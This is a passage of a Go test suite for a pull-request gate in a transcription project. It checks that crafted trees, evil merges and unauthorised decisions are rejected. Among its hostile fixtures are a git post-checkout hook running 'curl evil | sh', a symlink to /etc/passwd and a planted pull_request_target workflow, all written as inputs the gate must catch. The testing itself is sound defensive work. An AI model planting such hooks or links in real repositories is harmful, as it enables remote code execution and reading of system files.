		{name: "a document folder in upper case", change: tool("transcriptions/Doc/001/readings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{"transcriptions/Doc/001/readings/ann.txt layout error", "transcriptions/Doc/001/readings/ann.txt scope error"}, fail: true},
		{name: "Transcriptions in upper case", change: tool("Transcriptions/doc/001/readings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{"Transcriptions/doc/001/readings/ann.txt scope error"}, fail: true},
		{name: "a case variant of .github by a maintainer", change: tool(".GitHub/workflows/x.yml", "on: push\n"), login: "max-gh",
			want: []string{".GitHub/workflows/x.yml scope error"}, fail: true},
		{name: "a case variant of decisions.txt", change: tool(page1+"/Decisions.txt", "x\n"), login: "rev-gh",
			want: []string{page1 + "/Decisions.txt layout error", page1 + "/Decisions.txt scope error", gDec1 + " file-name error"}, fail: true},
		{name: "an NFD reading name", change: tool(page1+"/readings/jose\u0301.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/jose\u0301.txt file-name error", page1 + "/readings/jose\u0301.txt scope error"}, fail: true},
		{name: "an NFD document folder", change: tool("transcriptions/docu\u0301/001/readings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{"transcriptions/docu\u0301/001/readings/ann.txt file-name error", "transcriptions/docu\u0301/001/readings/ann.txt scope error"}, fail: true},
		{name: "a Cyrillic a in an id", change: tool(page1+"/readings/\u0430nn.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/readings/\u0430nn.txt layout error", page1 + "/readings/\u0430nn.txt scope error"}, fail: true},
		{name: "a Cyrillic a in the readings folder", change: tool(page1+"/re\u0430dings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{page1 + "/re\u0430dings/ann.txt layout error", page1 + "/re\u0430dings/ann.txt scope error"}, fail: true},
		{name: "an Arabic-Indic digit in a page folder", change: tool(docDir+"/00\u0661/readings/ann.txt", fixtureReadings[gAnn1]), login: "ann-gh",
			want: []string{docDir + "/00\u0661/readings/ann.txt layout error", docDir + "/00\u0661/readings/ann.txt scope error"}, fail: true},
		// A contributor's own reading, made bad.
		{name: "an oversized reading", change: tool(gAnn1, strings.Repeat("The quick brown fox\n", 1<<20/20+1)), login: "ann-gh",
			want: []string{gAnn1 + " size error"}, fail: true, message: "more than the 1048576 a page may have"},
		{name: "a NUL byte in a reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "the end", "the\x00end") }, login: "ann-gh",
			want: []string{gAnn1 + " control-character error"}, fail: true},
		{name: "invalid UTF-8 in a reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "the end", "the \xc3end") }, login: "ann-gh",
			want: []string{gAnn1 + " encoding error"}, fail: true},
		{name: "conflict markers in a reading", change: func(t *testing.T, r *prRepo) {
			editRel(t, r.dir, gAnn1, "And then the end.\n", "<<<<<<< HEAD\nAnd then the end.\n=======\nAnd then the end!\n>>>>>>> main\n")
		}, login: "ann-gh", want: []string{gAnn1 + " conflict-marker error"}, fail: true},
		{name: "an executable reading", change: func(t *testing.T, r *prRepo) { chmodRel(t, r.dir, gAnn1, 0o755) }, login: "ann-gh",
			want: []string{gAnn1 + " scope error"}, fail: true, message: "is executable"},
		{name: "a reading with CRLF", change: func(t *testing.T, r *prRepo) { crlf(t, r.dir, gAnn1) }, login: "ann-gh",
			want: []string{gAnn1 + " text error"}, fail: true},
		{name: "a reading with trailing space", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "the end.", "the end. ") }, login: "ann-gh",
			want: []string{gAnn1 + " normal-form error"}, fail: true},
		{name: "an empty reading", change: tool(gAnn1, "\n"), login: "ann-gh",
			want: []string{gAnn1 + " empty error"}, fail: true},
		// The controls.
		{name: "a contributor's own reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, annRow1, "quick brown fax") }, login: "ann-gh",
			want: row1Warnings},
		{name: "a contributor's own new reading", change: tool(gBen1, fixtureReadings[gAnn1]), login: "ben-gh"},
		// rev's pick of her text on row 2 still holds: the row's texts are
		// among those it saw, and ocr and ben still read the page.
		{name: "a contributor deletes her own reading", change: func(t *testing.T, r *prRepo) { removeRel(t, r.dir, gAnn2) }, login: "ann-gh"},
		{name: "a reviewer's decision and rebuild", change: func(t *testing.T, r *prRepo) {
			decideAs(t, r, "rev", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
		}, login: "rev-gh"},
		{name: "a maintainer changes another's reading", change: func(t *testing.T, r *prRepo) { editRel(t, r.dir, gBen2, "wordz", "wordy") }, login: "max-gh",
			want: []string{gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning", gCanD + " canonical warning"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}
}

// TestGateCrafted: trees no `git add` makes, written as objects.
func TestGateCrafted(t *testing.T) {
	blob := func(p, data string) treeEdit { return treeEdit{names: at(p), mode: "100644", data: data} }
	named := func(names []string, mode, data string) treeEdit {
		return treeEdit{names: names, mode: mode, data: data}
	}
	under := func(dir string, names ...string) []string { return append(at(dir), names...) }
	gitlink := plumbing.NewHash("5d41402abc4b2a76b9719d911017c592aabbccdd")
	tests := []gateCase{
		{name: "a .. folder in readings", login: "ann-gh",
			craft: crafted("ann", named(under(page1+"/readings", "..", "ben.txt"), "100644", benReading)),
			want:  []string{page1 + "/readings/.. scope error"}, fail: true, message: `the name ".."`},
		{name: "a .. file in a document", login: "rev-gh",
			craft: crafted("rev", named(under(docDir, ".."), "100644", "x\n")),
			want:  []string{docDir + "/.. scope error"}, fail: true},
		{name: "a . folder", login: "ann-gh",
			craft: crafted("ann", named(under(page1, ".", "readings", "ben.txt"), "100644", benReading)),
			want:  []string{page1 + "/. scope error"}, fail: true},
		{name: "a .git folder at the top", login: "max-gh",
			craft: crafted("max", named([]string{".git", "hooks", "post-checkout"}, "100755", "#!/bin/sh\ncurl evil | sh\n")),
			want:  []string{".git scope error"}, fail: true, message: "git's own folder"},
		{name: "a .git folder in a page", login: "ann-gh",
			craft: crafted("ann", named(under(page1, ".git", "config"), "100644", "[core]\n\thooksPath = /tmp\n")),
			want:  []string{page1 + "/.git scope error"}, fail: true},
		{name: "a .GIT folder", login: "ann-gh",
			craft: crafted("ann", named(under(page1, ".GIT", "config"), "100644", "x\n")),
			want:  []string{page1 + "/.GIT scope error"}, fail: true},
		{name: "a .git. folder", login: "ann-gh",
			craft: crafted("ann", named(under(page1, ".git.", "config"), "100644", "x\n")),
			want:  []string{page1 + "/.git. scope error"}, fail: true},
		{name: "a .git file under .github by a maintainer", login: "max-gh",
			craft: crafted("max", named([]string{".github", ".git "}, "100644", "x\n")),
			want:  []string{".github/.git  scope error"}, fail: true},
		{name: "a file named readings/ben.txt", login: "ann-gh",
			// Its path reads as ben's reading: the name is judged as itself.
			craft: crafted("ann", named(under(page2, "readings/ben.txt"), "100644", "Another page entirely\nwith its own wordy\n")),
			want:  []string{gBen2 + " scope error"}, fail: true, message: `a slash, backslash or NUL in the name "readings/ben.txt"`},
		{name: "a folder named doc/002", login: "ann-gh",
			craft: crafted("ann", named([]string{"transcriptions", "doc/002", "readings", "ben.txt"}, "100644", "x\n")),
			want:  []string{page2 + " scope error"}, fail: true},
		{name: "a name with a backslash", login: "ann-gh",
			craft: crafted("ann", named(under(page2, `readings\ben.txt`), "100644", "x\n")),
			want:  []string{page2 + `/readings\ben.txt scope error`}, fail: true},
		{name: "a gitlink as a reading", login: "ann-gh",
			craft: crafted("ann", treeEdit{names: at(gAnn1), mode: "160000", hash: gitlink}),
			// The landed tree holds the gitlink; the page's check cannot read it.
			want: []string{gAnn1 + " scope error", gAnn1 + " layout error"}, fail: true, message: "is a gitlink (a submodule)"},
		{name: "a gitlink as a page's readings folder", login: "rev-gh",
			craft: crafted("rev", treeEdit{names: at(page2 + "/readings"), mode: "160000", hash: gitlink}),
			want: []string{page2 + "/readings scope error", page2 + "/readings layout error",
				gAnn2 + " scope error", gBen2 + " scope error", page2 + "/readings/ocr.txt scope error",
				page2 + " readings-needed warning", gCan2 + " canonical warning", gDec2 + " stale warning", gCanD + " canonical warning"},
			fail: true},
		{name: "a gitlink in the tool by a maintainer", login: "max-gh",
			craft: crafted("max", treeEdit{names: at("workflow/vendor"), mode: "160000", hash: gitlink})},
		{name: "a symbolic link as a reading", login: "ann-gh",
			craft: crafted("ann", named(at(gAnn1), "120000", "../../002/readings/ben.txt")),
			want: []string{gAnn1 + " scope error", gAnn1 + " symlink error", page1 + " readings-needed warning",
				gCan1 + " canonical warning", gCanD + " canonical warning"},
			fail: true, message: "is a symbolic link"},
		{name: "a symbolic link as a page folder", login: "rev-gh",
			craft: crafted("rev", named(at(docDir+"/003"), "120000", "001")),
			want:  []string{docDir + "/003 scope error", docDir + "/003 symlink error"}, fail: true},
		{name: "a symbolic link to outside the repository", login: "ann-gh",
			craft: crafted("ann", named(at(page1+"/readings/ben.txt"), "120000", "/etc/passwd")),
			want:  []string{gBen1 + " scope error", gBen1 + " symlink error"}, fail: true},
		{name: "a symbolic link in the tool by a maintainer", login: "max-gh",
			craft: crafted("max", named(at("README.md"), "120000", "transcriptions/CONVENTIONS.md")),
			// judge lets tool files be links, and the push check (check.Tree)
			// accepts the same tree; the gate once failed it with "symbolic
			// links are not allowed under transcriptions/" [symlink].
		},
		{name: "an executable tool script by a maintainer", login: "max-gh",
			craft: crafted("max", named(at(".ci/run.sh"), "100755", "#!/bin/sh\ngo test ./...\n"))},
		{name: "a reading of mode 100664", login: "ann-gh",
			craft: crafted("ann", treeEdit{names: at(gAnn1), mode: "100664", keep: true}),
			want:  []string{gAnn1 + " scope error"}, fail: true, message: "is not a regular file"},
		{name: "a readings folder of mode 040000 that hides a change", login: "ann-gh",
			craft: crafted("ann", blob(gBen2, "Another page entirely\nwith its own wordy\n"),
				treeEdit{names: at(page2 + "/readings"), mode: "040000", keep: true}),
			// The folder is reported as a change of mode, not walked: every
			// file of the old folder is deleted, which is caught.
			want: []string{page2 + "/readings scope error", page2 + "/readings layout error",
				gBen2 + " scope error", page2 + "/readings/ocr.txt scope error",
				page2 + " readings-needed warning", gCan2 + " canonical warning", gDec2 + " stale warning", gCanD + " canonical warning"},
			fail: true},
		{name: "a second entry of another's reading", login: "ann-gh",
			craft: crafted("ann", treeEdit{names: at(gBen2), mode: "100644", data: "Another page entirely\nwith its own wordy\n", dup: true}),
			// The second entry is judged as an addition of ben's reading.
			want: []string{gBen2 + " scope error", gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning", gCanD + " canonical warning"},
			fail: true, message: "only ben may add ben's reading"},
		{name: "a second transcriptions folder", login: "ann-gh",
			craft: func(t *testing.T, r *prRepo) {
				main := r.tip(t, "main")
				c, err := r.git.CommitObject(main)
				if err != nil {
					t.Fatal(err)
				}
				root := r.readRawTree(t, c.TreeHash)
				i := slices.IndexFunc(root, func(e rawEntry) bool { return e.name == "transcriptions" })
				// A copy of transcriptions/ with ben's reading changed.
				changed := r.editTree(t, root[i].hash, treeEdit{names: at("doc/002/readings/ben.txt"), mode: "100644", data: "Another page entirely\nwith its own wordy\n"}, 0)
				root = append(root, rawEntry{mode: "40000", name: "transcriptions", hash: changed})
				tree := r.writeRawTree(t, root)
				r.craftTreeCommit(t, "pr", "ann", tree, main)
			},
			// The second folder is judged as an addition of every file in it.
			has:  []string{gBen2 + " scope error", gProj + " scope error", gDec1 + " scope error"},
			fail: true},
		{name: "a reading that is a folder", login: "ann-gh",
			craft: crafted("ann", treeEdit{names: at(gAnn1), mode: ""}, blob(gAnn1+"/x", "x\n")),
			// The landed tree holds the folder readings/ann.txt, which the
			// page's check finds where a reading belongs (as the push check
			// does). It once could not: gitrepo's overlayFS listed the path
			// in ReadDir, and Lstat then said it did not exist.
			want: []string{gAnn1 + " layout error", gAnn1 + "/x layout error", gAnn1 + "/x scope error", page1 + " readings-needed warning",
				gCan1 + " canonical warning", gCanD + " canonical warning"},
			fail: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}

	// A tree entry with an empty name cannot even be read as a change:
	// the gate fails with an error, not a verdict.
	t.Run("an empty name", func(t *testing.T) {
		r := newGateRepo(t)
		crafted("ann", named(under(page2, ""), "100644", "x\n"))(t, r)
		res, err := CheckPullRequest(context.Background(), r.dir, PullRequest{Base: "main", Head: "pr", Login: "ann-gh"})
		if err == nil {
			t.Fatalf("no error; verdict:%s", dump(res.New))
		}
		t.Logf("error: %v", err)
	})
}

// craftTreeCommit commits a tree made by hand on branch.
func (r *prRepo) craftTreeCommit(t *testing.T, branch, who string, tree plumbing.Hash, parents ...plumbing.Hash) plumbing.Hash {
	t.Helper()
	r.when = r.when.Add(time.Minute)
	sig := object.Signature{Name: who, Email: who + "@example.org", When: r.when}
	commit := &object.Commit{Author: sig, Committer: sig, Message: "crafted by " + who, TreeHash: tree, ParentHashes: parents}
	o := r.git.Storer.NewEncodedObject()
	if err := commit.Encode(o); err != nil {
		t.Fatal(err)
	}
	h, err := r.git.Storer.SetEncodedObject(o)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.git.Storer.SetReference(plumbing.NewHashReference(plumbing.NewBranchReferenceName(branch), h)); err != nil {
		t.Fatal(err)
	}
	return h
}

// mainFS is main's tip's tree.
func mainFS(t *testing.T, r *prRepo) fs.FS {
	t.Helper()
	g, err := gitrepo.Open(r.dir)
	if err != nil {
		t.Fatal(err)
	}
	fsys, err := g.TreeFS(r.tip(t, "main"))
	if err != nil {
		t.Fatal(err)
	}
	return fsys
}

// TestGateHistory: merge commits in the pull request, and main moving on
// after the branch point.
func TestGateHistory(t *testing.T) {
	row1Warnings := []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning", gCanD + " canonical warning"}
	annRow1 := func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "quick brown fox", "quick brown fax") }
	// mergeMain has ann's branch take in main (which ben moved on), then
	// evil changes the merge's work tree before it is committed.
	mergeMain := func(evil func(t *testing.T, r *prRepo)) func(t *testing.T, r *prRepo) {
		return func(t *testing.T, r *prRepo) {
			r.checkout(t, "pr", true)
			annRow1(t, r)
			r.commit(t, "ann", "ann's reading")
			r.checkout(t, "main", false)
			editRel(t, r.dir, gBen2, "wordz", "wordy")
			r.commit(t, "ben", "ben's reading")
			r.checkout(t, "pr", false)
			r.copyFrom(t, mainFS(t, r), gBen2)
			if evil != nil {
				evil(t, r)
			}
			r.mergeInto(t, "ann", "Merge main", r.tip(t, "main"))
			r.checkout(t, "main", false)
		}
	}
	// ben's change on main left page 002 for a reviewer to rebuild: a
	// pull request that touches the page finds that work already there.
	benOnMain := []string{gDec2 + " stale warning", gCan2 + " canonical warning", gCan2 + " unsettled warning"}
	// A maintainer's change to ann's reading of page 001 on main does the same there.
	ann1OnMain := []string{gCan1 + " canonical warning", gCan1 + " unsettled warning"}
	// Main's change since the branch point also left the document's
	// canonical text out of date on main's tip: a pull request that does
	// not write it finds that warning already there (the base tip is
	// checked as the landed tree is, and problems match by file, rule and
	// severity).
	row1Pages := []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning"}
	benOnMainDoc := append(slices.Clone(benOnMain), gCanD+" canonical warning")
	tests := []gateCase{
		{name: "a merge of main into the pull request", craft: mergeMain(nil), login: "ann-gh", want: row1Warnings},
		{
			name: "an evil merge that also changes another's reading",
			craft: mergeMain(func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gBen2, "wordy", "wordx")
			}),
			login:    "ann-gh",
			want:     append([]string{gBen2 + " scope error"}, row1Pages...),
			fail:     true,
			existing: benOnMainDoc,
		},
		{
			name: "an evil merge that undoes main's change to another's reading",
			craft: mergeMain(func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gBen2, "wordy", "wordz")
			}),
			login: "ann-gh",
			want:  append([]string{gBen2 + " scope error"}, row1Pages...),
			fail:  true,
			// Page 002 is back as main built it: no work is left there;
			// main's document text, out of date since ben's change, is.
			existing: []string{gCanD + " canonical warning"},
		},
		{
			name: "an evil merge that adds a workflow",
			craft: mergeMain(func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, ".github/workflows/evil.yml", "on: pull_request_target\n")
			}),
			login: "ann-gh",
			want:  append([]string{".github/workflows/evil.yml scope error"}, row1Warnings...),
			fail:  true,
		},
		{
			name: "a merge whose first parent is main",
			craft: func(t *testing.T, r *prRepo) {
				r.checkout(t, "pr", true)
				annRow1(t, r)
				prTip := r.commit(t, "ann", "ann's reading")
				r.checkout(t, "main", false)
				editRel(t, r.dir, gBen2, "wordz", "wordy")
				mainTip := r.commit(t, "ben", "ben's reading")
				c, err := r.git.CommitObject(mainTip)
				if err != nil {
					t.Fatal(err)
				}
				// The merge's tree: main's, with ann's reading and, evilly, ben's of page 002 changed.
				tree := r.editTree(t, c.TreeHash, treeEdit{names: at(gAnn1), mode: "100644", data: strings.Replace(fixtureReadings[gAnn1], "brown fox", "brown fax", 1)}, 0)
				tree = r.editTree(t, tree, treeEdit{names: at(gBen2), mode: "100644", data: "Another page entirely\nwith its own wordx\n"}, 0)
				r.craftTreeCommit(t, "pr", "ann", tree, mainTip, prTip)
			},
			login:    "ann-gh",
			want:     append([]string{gBen2 + " scope error"}, row1Pages...),
			fail:     true,
			existing: benOnMainDoc,
		},
		{
			name: "a merge of another's unmerged branch",
			craft: func(t *testing.T, r *prRepo) {
				r.checkout(t, "tool", true)
				editRel(t, r.dir, gWF, "run: scribe check --pull-request", `run: "true"`)
				tool := r.commit(t, "max", "max's unreviewed change")
				r.checkout(t, "main", false)
				r.checkout(t, "pr", true)
				annRow1(t, r)
				r.commit(t, "ann", "ann's reading")
				r.copyFrom(t, mainFSAt(t, r, tool), gWF)
				r.mergeInto(t, "ann", "Merge tool", tool)
				r.checkout(t, "main", false)
			},
			login: "ann-gh",
			want:  append([]string{gWF + " scope error"}, row1Warnings...),
			fail:  true,
		},
		{
			name: "a head that main already holds",
			craft: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gBen2, "wordz", "wordy")
				old := r.commit(t, "ben", "ben's reading")
				annRow1(t, r)
				r.commit(t, "ann", "ann's reading")
				if err := r.git.Storer.SetReference(plumbing.NewHashReference(plumbing.NewBranchReferenceName("pr"), old)); err != nil {
					t.Fatal(err)
				}
			},
			// Nothing to land: ben's change is main's, not the pull request's.
			login: "ann-gh",
		},
		// Main moves on after the branch point: its tip's roles judge.
		{
			name: "a branch from before a demotion",
			change: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rita", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
			},
			after: func(t *testing.T, r *prRepo) {
				setRole(t, r.dir, "rita", "reviewer", "contributor")
				r.commit(t, "max", "rita steps down")
			},
			login: "rita-gh",
			want: []string{gDec1 + " scope error", gDec1 + " reviewer error", gCan1 + " scope error", gSum1 + " scope error",
				gCanD + " scope error", gSumD + " scope error"},
			fail:    true,
			message: "only a reviewer may change decisions.txt (rita is contributor)",
		},
		{
			name: "a branch from before a promotion",
			change: func(t *testing.T, r *prRepo) {
				// scribe refuses to record a decision by a contributor: make
				// her a reviewer in the work tree while she decides.
				proj := readRel(t, r.dir, gProj)
				setRole(t, r.dir, "rita", "contributor", "reviewer")
				decideAs(t, r, "rita", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
				writeRel(t, r.dir, gProj, proj)
			},
			base: func(t *testing.T, r *prRepo) {
				setRole(t, r.dir, "rita", "reviewer", "contributor")
				r.commit(t, "max", "rita is a contributor")
			},
			after: func(t *testing.T, r *prRepo) {
				setRole(t, r.dir, "rita", "contributor", "reviewer")
				r.commit(t, "max", "rita reviews")
			},
			login: "rita-gh",
		},
		{
			name:   "a contributor registered after the branch point",
			change: func(t *testing.T, r *prRepo) { writeRel(t, r.dir, page1+"/readings/dora.txt", fixtureReadings[gAnn1]) },
			after: func(t *testing.T, r *prRepo) {
				addPerson(t, r.dir, "dora", "contributor")
				r.commit(t, "max", "welcome dora")
			},
			login: "dora-gh",
		},
		{
			name:    "a contributor not registered",
			change:  func(t *testing.T, r *prRepo) { writeRel(t, r.dir, page1+"/readings/dora.txt", fixtureReadings[gAnn1]) },
			login:   "dora-gh",
			want:    []string{page1 + "/readings/dora.txt scope error", page1 + "/readings/dora.txt contributor error"},
			fail:    true,
			message: `login "dora-gh" is not in project.toml`,
		},
		{
			name:   "a login changed on main after the branch point",
			change: annRow1,
			after: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gProj, `login = "ann-gh"`, `login = "ann-new"`)
				r.commit(t, "max", "ann's new login")
			},
			login: "ann-gh",
			want:  append([]string{gAnn1 + " scope error"}, row1Warnings...),
			fail:  true,
		},
		// Both sides changed a file.
		{
			name:   "a reading both sides changed on the same line",
			change: annRow1,
			after: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gAnn1, "quick brown fox", "quick brown fox,")
				r.commit(t, "max", "a maintainer's fix of ann's reading")
			},
			login: "ann-gh",
			// The landed tree holds ann's side: row 1 of page 001 is hers.
			want:      []string{gAnn1 + " merge error"},
			existing:  []string{gCan1 + " canonical warning", gCan1 + " unsettled warning", gDec1 + " stale warning", gCanD + " canonical warning"},
			conflicts: []string{gAnn1},
			fail:      true,
			message:   "do not merge",
		},
		{
			name:   "a reading both sides changed on different lines",
			change: annRow1,
			after: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gAnn1, "the end.", "the end!")
				r.commit(t, "max", "a maintainer's fix of ann's reading")
			},
			login: "ann-gh",
			// Merged: both rows 1 and 3 of page 001 changed; row 3 was unanimous.
			// The document's canonical text, out of date on main too, is
			// main's work (see TestGateExistingDocumentProblem).
			want:     []string{gDec1 + " stale warning"},
			existing: append(slices.Clone(ann1OnMain), gCanD+" canonical warning"),
		},
		{
			name:   "a reading both sides changed alike",
			change: annRow1,
			after: func(t *testing.T, r *prRepo) {
				annRow1(t, r)
				r.commit(t, "max", "the same fix")
			},
			login: "ann-gh",
			// Nothing left to land; the change is still ann's own.
			want:     []string{},
			existing: []string{gCan1 + " canonical warning", gCan1 + " unsettled warning", gDec1 + " stale warning", gCanD + " canonical warning"},
		},
		{
			name:   "a reading deleted on one side, changed on the other",
			change: func(t *testing.T, r *prRepo) { removeRel(t, r.dir, gAnn1) },
			after: func(t *testing.T, r *prRepo) {
				annRow1(t, r)
				r.commit(t, "max", "a maintainer's fix of ann's reading")
			},
			login:     "ann-gh",
			conflicts: []string{gAnn1},
			want:      []string{gAnn1 + " merge error", page1 + " readings-needed warning"},
			existing:  []string{gCan1 + " canonical warning", gCanD + " canonical warning"},
			fail:      true,
		},
		{
			name:   "a reading added on both sides",
			change: func(t *testing.T, r *prRepo) { writeRel(t, r.dir, gBen1, fixtureReadings[gAnn1]) },
			after: func(t *testing.T, r *prRepo) {
				writeRel(t, r.dir, gBen1, fixtureReadings[gOcr1])
				r.commit(t, "max", "ben's reading, typed in by a maintainer")
			},
			login:     "ben-gh",
			conflicts: []string{gBen1},
			want:      []string{gBen1 + " merge error"},
			fail:      true,
		},
		{
			name: "a reviewer's decision on a slot main decided since",
			change: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rita", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox!"})
			},
			after: func(t *testing.T, r *prRepo) {
				decideAs(t, r, "rev", "001", 1, page.Choice{How: decision.Typed, Text: "The quick brown fox?"})
				r.commit(t, "rev", "rev decides row 1 again")
			},
			login:     "rita-gh",
			conflicts: []string{gSum1, gCan1, gDec1, gSumD, gCanD},
			want:      []string{gDec1 + " merge error", gCan1 + " merge error", gSum1 + " merge error", gCanD + " merge error", gSumD + " merge error"},
			fail:      true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}
}

// mainFSAt is a commit's tree.
func mainFSAt(t *testing.T, r *prRepo, h plumbing.Hash) fs.FS {
	t.Helper()
	g, err := gitrepo.Open(r.dir)
	if err != nil {
		t.Fatal(err)
	}
	fsys, err := g.TreeFS(h)
	if err != nil {
		t.Fatal(err)
	}
	return fsys
}

// TestGateExistingDocumentProblem: a problem main already has is
// reported apart and does not fail a pull request that does not touch
// its file.
func TestGateExistingDocumentProblem(t *testing.T) {
	annRow1 := func(t *testing.T, r *prRepo) { editRel(t, r.dir, gAnn1, "quick brown fox", "quick brown fax") }
	tests := []gateCase{
		{
			name: "a hand edit of a page's canonical text on main",
			base: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gCan1, "lazy dog.", "lazy cat.")
				r.commit(t, "rev", "a hand edit")
			},
			change:   annRow1,
			login:    "ann-gh",
			want:     []string{gDec1 + " stale warning", gCan1 + " unsettled warning", gCanD + " canonical warning"},
			existing: []string{gCan1 + " canonical error"},
		},
		{
			name: "a hand edit of the document's canonical text on main",
			base: func(t *testing.T, r *prRepo) {
				editRel(t, r.dir, gCanD, "lazy dog.", "lazy cat.")
				r.commit(t, "rev", "a hand edit")
			},
			change: annRow1,
			login:  "ann-gh",
			want:   []string{gDec1 + " stale warning", gCan1 + " canonical warning", gCan1 + " unsettled warning"},
			// The gate once reported main's problem as new, and failed every
			// pull request that touched a page of the document: the base was
			// checked without the document's canonical text, so it never had
			// the problem to match.
			existing: []string{gCanD + " canonical error"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) { runGate(t, tc) })
	}
}

// TestGateDecisions: every decision a pull request adds or changes is its
// author's, and the four-eyes rule holds.
func TestGateDecisions(t *testing.T) {
	typed := func(text string) page.Choice { return page.Choice{How: decision.Typed, Text: text} }
	// ownPick has rev read page 002 and record, by hand, a pick of his own
	// variant of the disputed row 2, naming readings as its supporters.
	ownPick := func(readings []string, how decision.How) func(t *testing.T, r *prRepo) {
		return func(t *testing.T, r *prRepo) {
			writeRel(t, r.dir, page2+"/readings/rev.txt", "Another page entirely\nwith its own wordq\n")
			proj := mustProject(t, r.repo)
			p, err := page.Open(r.repo, proj, "doc", "002")
			if err != nil {
				t.Fatal(err)
			}
			seen := p.Seen(2)
			d := decision.Decision{Row: 2, Text: "with its own wordq", How: how, Readings: readings, By: "rev",
				At: decidedAt, Seen: seen, Fingerprint: decision.FingerprintOf(seen)}
			writeRel(t, r.dir, gDec2, string(decision.Encode(2, []decision.Decision{d})))
			rebuild(t, r.repo)
			if !strings.Contains(readRel(t, r.dir, gCan2), "with its own wordq\n") {
				t.Fatal("the build did not apply rev's decision")
			}
		}
	}
	tests := []gateCase{
		{name: "a reviewer's own decision", login: "rita-gh",
			change: func(t *testing.T, r *prRepo) { decideAs(t, r, "rita", "001", 1, typed("The quick brown fox!")) }},
		{
			name:    "a decision recorded under another reviewer's id",
			login:   "rita-gh",
			change:  func(t *testing.T, r *prRepo) { decideAs(t, r, "rev", "001", 1, typed("The quick brown fox!")) },
			want:    []string{gDec1 + " decision-author error"},
			fail:    true,
			message: "row 1 is recorded as decided by rev, but this pull request is by rita",
		},
		{
			name:    "a decision recorded under another's id by a maintainer",
			login:   "max-gh",
			change:  func(t *testing.T, r *prRepo) { decideAs(t, r, "rita", "002", 2, typed("with its own words!")) },
			want:    []string{gDec2 + " decision-author error"},
			fail:    true,
			message: "row 2 is recorded as decided by rita, but this pull request is by max",
		},
		{
			name:  "a decision recorded under a contributor's id",
			login: "rita-gh",
			change: func(t *testing.T, r *prRepo) {
				rewriteDecisions(t, r.dir, "001", 3, func(ds []decision.Decision) []decision.Decision {
					ds[0].By, ds[0].Note = "ann", "mine"
					return ds
				})
				rebuild(t, r.repo)
			},
			// rev picked ann's text: by ann it is also her own reading alone.
			want: []string{gDec1 + " decision-author error", gDec1 + " reviewer error", gDec1 + " four-eyes error"},
			fail: true,
		},
		{
			name:  "another reviewer's decision changed, its author kept",
			login: "rita-gh",
			change: func(t *testing.T, r *prRepo) {
				rewriteDecisions(t, r.dir, "002", 2, func(ds []decision.Decision) []decision.Decision {
					ds[0].Note = "rev says so"
					return ds
				})
			},
			want:    []string{gDec2 + " decision-author error"},
			fail:    true,
			message: "row 2 is recorded as decided by rev",
		},
		{
			name:  "another reviewer's decision removed",
			login: "rita-gh",
			change: func(t *testing.T, r *prRepo) {
				rewriteDecisions(t, r.dir, "002", 2, func([]decision.Decision) []decision.Decision { return nil })
				rebuild(t, r.repo)
			},
			// A reviewer may undo a decision; the row is unsettled again.
			want: []string{gCan2 + " unsettled warning"},
		},
		{
			name:  "a rebuild that renumbers another's decision",
			login: "max-gh",
			change: func(t *testing.T, r *prRepo) {
				// A line added above row 1 moves rev's decision to row 2.
				editRel(t, r.dir, gOcr1, "The quick", "Preface\nThe quick")
				editRel(t, r.dir, gAnn1, "The quick", "Preface\nThe quick")
				rebuild(t, r.repo)
			},
			// rev's decision is now on row 2, unchanged: not max's to sign.
			want: []string{},
		},
		{
			name:  "a pick whose text is no reading's",
			login: "rita-gh",
			change: func(t *testing.T, r *prRepo) {
				// rev's pick of ann's text on row 2 of page 002, redone by
				// rita with a text ann never wrote.
				rewriteDecisions(t, r.dir, "002", 2, func(ds []decision.Decision) []decision.Decision {
					ds[0].By, ds[0].Text = "rita", "with its own swords"
					return ds
				})
				rebuild(t, r.repo)
			},
			// A decision's how and readings were once taken as written: the
			// pick passed and was built into the canonical text as ann's variant.
			want: []string{gDec2 + " decisions error"},
			fail: true,
		},
		{name: "four eyes: a reviewer's pick of his own reading alone", login: "rev-gh",
			change: ownPick([]string{"rev"}, decision.Pick),
			want:   []string{gDec2 + " four-eyes error"}, fail: true, message: "row 2 is settled by rev's own reading alone"},
		{
			name: "four eyes: the same pick, naming another's reading as its support",
